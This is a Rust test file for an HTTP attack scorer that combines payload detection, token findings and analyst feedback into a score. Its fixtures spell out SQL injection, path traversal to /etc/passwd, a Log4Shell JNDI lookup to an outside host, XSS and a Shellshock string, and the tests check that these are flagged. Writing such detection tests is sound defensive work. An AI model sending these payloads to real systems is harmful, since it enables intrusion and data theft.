use std::sync::Arc;

use serde_json::json;

use super::{Evidence, Label, Models, Opinion, Score, Scorer, Source, fusion, input::Described};
use crate::{
    capture::Direction,
    feedback::{Labels, Record},
    finding::{Finding, FindingId, Severity},
    history::scored,
    http::{self, HttpEvent, Request},
    time::Time,
    token::TokenReport,
};

fn scorer() -> Scorer {
    Scorer::new(Models::built_in().unwrap())
}

fn score(value: &serde_json::Value, findings: &[Finding]) -> Score {
    let described = Described::from_json(value, Time::from_unix_secs(1_700_000_000)).unwrap();
    let evidence = findings.iter().map(|finding| Evidence { finding, of_credentials: true });
    scorer().score(&described.request, &TokenReport::default(), evidence)
}

#[test]
fn an_attack_is_found_wherever_it_stands_and_its_place_is_told() {
    for (request, place, id) in [
        (json!({"path": "/items?id=1%27%20or%20%271%27=%271"}), "the query", "sqli"),
        (json!({"path": "/static/..%2f..%2f..%2fetc/passwd"}), "the path", "traversal"),
        (
            json!({"path": "/", "headers": {"X-Api": "${jndi:ldap://x.example/a}"}}),
            "header x-api",
            "log4j",
        ),
        (
            json!({"path": "/", "headers": {"Cookie": "a=b; c=<script>alert(1)</script>"}}),
            "a cookie",
            "xss",
        ),
        (
            json!({"path": "/", "method": "POST", "body": {"user": "x' union select 1,2,3-- -"}}),
            "the body",
            "sqli",
        ),
    ] {
        let score = score(&request, &[]);
        assert!(score.suspected && score.payload_at_even_odds() >= 0.87, "{request} {score:?}");
        assert!(score.value >= 87, "{request} {score:?}");
        let first = &score.reasons()[0];
        assert_eq!((first.source, first.score), (Source::Payload, score.value));
        assert!(first.detail.starts_with(&format!("{id} in {place}: ")), "{}", first.detail);
    }
}

#[test]
fn nothing_is_said_of_a_usual_request() {
    let score = score(
        &json!({
            "path": "/api/orders/17?sort=-created&q=blue+chairs",
            "headers": {
                "Host": "shop.example",
                "User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
                "Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
                "Cookie": "sid=s%3AqX9vT2mL0aKc4wZ7; theme=dark",
            },
        }),
        &[],
    );
    assert_eq!((score.value, score.suspected, score.reasons().len()), (0, false, 0));
}

#[test]
fn what_is_proven_is_100_and_nothing_else_is() {
    let request = json!({"path": "/?id=1' union select password from users-- -"});
    let grave = |severity| Finding { severity, ..Finding::new(FindingId::TokenExpired, "") };
    for severity in Severity::ALL {
        let score = score(&request, &[grave(severity)]);
        assert!(score.value <= fusion::UNPROVEN);
    }
    let forged = Finding::new(FindingId::AlgNone, "alg is none");
    let proven = score(&json!({"path": "/"}), std::slice::from_ref(&forged));
    assert_eq!(proven.value, 100);
    assert_eq!(proven.reasons()[0].id, "alg-none");
    assert!(!proven.suspected, "no model had a part in it");
    // Of a token that the request is about, nothing is proven against the sender.
    let mut about = Score::default();
    about.weigh([Evidence { finding: &forged, of_credentials: false }].into_iter());
    assert_eq!(about.value, 99);
}

/// Against the definition, over all severities and many probabilities: one source alone is its
/// probability, two are more than either, more evidence never lowers a score, and what is below the
/// floor counts as none.
#[test]
fn fusion_is_as_documented() {
    for severity in Severity::ALL {
        let finding = Finding { severity, ..Finding::new(FindingId::TokenInQuery, "") };
        let alone = fusion::Weighed::default().add_finding(&finding, true);
        let mut last = 0;
        for step in 0..=100_u8 {
            let payload = f32::from(step) / 100.0;
            let own = if step < 5 { 0 } else { step.min(99) };
            assert_eq!(fusion::Weighed::new(payload, 0.0).score(), own);
            assert_eq!(fusion::Weighed::new(0.0, payload).score(), own);
            for behaviour in [0.0, 0.04, 0.3, 0.97] {
                let mut all = fusion::Weighed::new(payload, behaviour);
                let models = all.score();
                all.add_finding(&finding, true);
                let score = all.score();
                assert!(score >= alone && score >= own && score >= models);
                if behaviour == 0.0 {
                    assert!(score >= last);
                    last = score;
                }
            }
        }
    }
}

/// Against the definition of odds.
#[test]
fn odds_are_those_of_the_base() {
    for (even, at_base) in [(0.0, 0.0), (0.5, 0.01), (0.99, 0.5), (1.0, 1.0)] {
        assert!((fusion::at_base(even) - at_base).abs() < 1e-6, "{even}");
    }
    let odds = |p: f64| p / (1.0 - p);
    for step in 1..1000 {
        let even = step as f32 / 1000.0;
        let ratio = odds(even.into()) / odds(fusion::at_base(even).into());
        assert!((ratio - 99.0).abs() < 0.01, "{even} {ratio}");
    }
}

#[test]
fn an_answer_changes_what_the_findings_weigh() {
    let finding = |severity| Finding { severity, ..Finding::new(FindingId::TokenExpired, "") };
    let request = json!({"path": "/?q=1' or 1=1--"});
    let mut changed = score(&request, &[finding(Severity::High)]);
    assert_eq!(changed, score(&request, &[finding(Severity::High)]));
    let low = finding(Severity::Low);
    changed.weigh([Evidence { finding: &low, of_credentials: true }].into_iter());
    assert_eq!(changed, score(&request, &[low]));
}

/// Opinions of one event that had these reasons.
fn opinions(label: Label, reasons: &[&str]) -> Arc<[Opinion]> {
    let mut row = scored(1).row(1);
    row.reasons = reasons.iter().map(|&text| text.to_owned()).collect();
    let place = (row.subject_hash().unwrap(), row.route_hash().unwrap());
    let mut labels = Labels::default();
    let said = Time::from_unix_secs(1_000);
    let record = Record {
        until: Some(Time::from_unix_secs(2_000).to_string()),
        row: Some(row.clone()),
        ..Record::new(row.event, Some(label), said)
    };
    labels.take(record).unwrap();
    labels.opinions().of(place.0, place.1).unwrap()
}

#[test]
fn what_somebody_said_of_the_like_counts_until_its_end_and_never_against_a_proof() {
    let request = json!({"path": "/?q=1' or 1=1--"});
    let before = score(&request, &[]);
    assert!(before.suspected && before.value > 50);
    let gravest = format!("payload:{}", before.reasons()[0].id);
    let benign = opinions(Label::Benign, &[&gravest, "finding:token-expired"]);
    let (during, behind) = (Time::from_unix_secs(1_500), Time::from_unix_secs(2_000));

    let mut quieted = before.clone();
    quieted.heed(Arc::clone(&benign), during);
    assert_eq!((quieted.value, quieted.suspected), (before.value / 4, false));
    let first = &quieted.reasons()[0];
    assert_eq!((first.source, first.id), (Source::Feedback, "feedback-benign"));
    assert!(first.detail.contains("00000000000000000000000000000001"), "{}", first.detail);
    // The answer weighs again: what is known of the like counts once.
    let expired = Finding { severity: Severity::Low, ..Finding::new(FindingId::TokenExpired, "") };
    let evidence = |finding| [Evidence { finding, of_credentials: true }].into_iter();
    quieted.weigh(evidence(&expired));
    assert!(!quieted.suspected && quieted.value < 40);
    let said = |score: &Score| {
        score.reasons().iter().filter(|reason| reason.source == Source::Feedback).count()
    };
    assert_eq!(said(&quieted), 1);
    // A finding that was not there: nobody has looked at that.
    let other = Finding { severity: Severity::Low, ..Finding::new(FindingId::TypWrong, "") };
    quieted.weigh(evidence(&other));
    assert!(quieted.suspected && quieted.value >= before.value && said(&quieted) == 0);
    // A proof.
    let forged = Finding::new(FindingId::AlgNone, "");
    let named = opinions(Label::Benign, &[&gravest, "finding:alg-none"]);
    let mut proven = score(&request, std::slice::from_ref(&forged));
    proven.heed(named, during);
    assert_eq!((proven.value, said(&proven)), (100, 0));
    // Its time is over.
    let mut later = before.clone();
    later.heed(benign, behind);
    assert_eq!((later.value, later.suspected), (before.value, true));

    let mut marked = score(&json!({"path": "/"}), std::slice::from_ref(&expired));
    assert_eq!((marked.value, marked.suspected), (15, false));
    marked.heed(opinions(Label::Malicious, &["finding:token-expired"]), during);
    assert_eq!((marked.value, marked.suspected), (91, true));
    assert_eq!(marked.reasons()[0].id, "feedback-malicious");
    marked.weigh(std::iter::empty());
    assert_eq!((marked.value, marked.suspected, marked.reasons().len()), (0, false, 0));
}

/// Fields that come again are not looked at again: nothing of the score depends on that.
#[test]
fn fields_of_a_known_shape_score_as_they_did() {
    let agents = [
        "Mozilla/5.0 (X11; Linux x86_64)",
        "${jndi:ldap://x.example/a}",
        "x' or 1=1 -- ",
        "curl/8",
        "() { :;}; /bin/id",
    ];
    let cookies = ["".to_owned(), "a=b; c=d".to_owned(), "e;".repeat(400)];
    let targets = [
        "/items/1".to_owned(),
        "/items/2?q=1".to_owned(),
        "/a/../../etc/passwd".to_owned(),
        "/i?id=1%27%20or%20%271%27=%271".to_owned(),
        format!("/i?{}", "a&".repeat(300)),
        format!("/i?{}", "a&".repeat(100)),
        "/items/3".to_owned(),
    ];
    let (mut remembering, limits) = (scorer(), http::Limits::default());
    let (mut connection, mut events) = (http::Connection::new(false), http::Events::default());
    let mut seen = 0;
    for round in 0..3 {
        for (agent, cookie) in agents.iter().flat_map(|a| cookies.iter().map(move |c| (a, c))) {
            for target in &targets {
                let head = format!(
                    "GET {target} HTTP/1.1\r\nHost: a\r\nUser-Agent: {agent}\r\nCookie: {cookie}\r\n\
                    Authorization: Bearer a.b{round}.c\r\n\r\n"
                );
                let chunk = http::Chunk::Data(head.as_bytes());
                let at = Time::from_unix_secs(1_700_000_000);
                connection.push(Direction::ToServer, at, chunk, &limits, &mut events);
                for event in events.drain(..) {
                    let HttpEvent::Request { request, .. } = event else { continue };
                    let tokens = TokenReport::default();
                    let known = remembering.score(&request, &tokens, [].into_iter());
                    // A request that is described is of no shape.
                    let fields = request.headers().map(|field| (field.name, field.value));
                    let described =
                        Request::from_parts(b"GET", target.as_bytes(), fields, Vec::new(), at);
                    assert!(described.shape().is_none());
                    let anew = remembering.score(&described, &tokens, [].into_iter());
                    assert_eq!(known, anew, "{head}");
                    seen += usize::from(request.shape().is_some());
                }
                let answer = b"HTTP/1.1 204 X\r\n\r\n";
                let chunk = http::Chunk::Data(answer);
                connection.push(Direction::ToClient, at, chunk, &limits, &mut events);
                events.clear();
            }
        }
    }
    assert_eq!(seen, 3 * agents.len() * cookies.len() * targets.len());
}
